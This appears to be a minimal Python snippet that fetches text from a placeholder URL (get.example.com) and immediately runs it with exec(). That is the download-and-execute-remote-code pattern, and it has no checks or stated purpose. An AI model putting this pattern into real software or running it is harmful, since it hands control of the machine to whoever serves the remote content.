import requests

source = requests.get("https://get.example.com/x").text
exec(source)
